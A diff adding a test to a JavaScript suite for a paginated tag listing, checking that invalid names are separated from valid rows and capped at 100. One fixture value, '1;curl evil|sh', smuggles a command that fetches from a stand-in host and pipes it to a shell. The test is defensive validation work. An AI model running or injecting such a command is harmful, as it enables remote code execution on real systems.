@@ -35,6 +35,17 @@ describe('a listing', () => {
     expect(cursors).toEqual([undefined]);
   });
 
+  it('keeps what is no name apart from its rows, and not all of it', async () => {
+    const { fetch } = paged([...tags(0, 2), tag('1;curl evil|sh'), tag('a\nb'), ...tags(2, 3)]);
+    const listing = new Listing(100, 100, fetch);
+    await listing.load();
+    expect(listing.wantedEntries.map(({ label }) => label)).toEqual(['t0', 't1', 't2']);
+    expect(listing.invalid).toEqual(['1;curl evil|sh', 'a\nb']);
+    const many = new Listing(100, 100, paged(Array.from({ length: 5000 }, (_, at) => tag(`;${at}`))).fetch);
+    await many.load();
+    expect([many.known, many.invalid.length]).toEqual([0, 100]);
+  });
+
   it('asks for the next page only when its rows are wanted', async () => {
     const { fetch, cursors } = paged(tags(0, 1000), tags(1000, 1500));
     const listing = new Listing(1000, 1000, fetch);
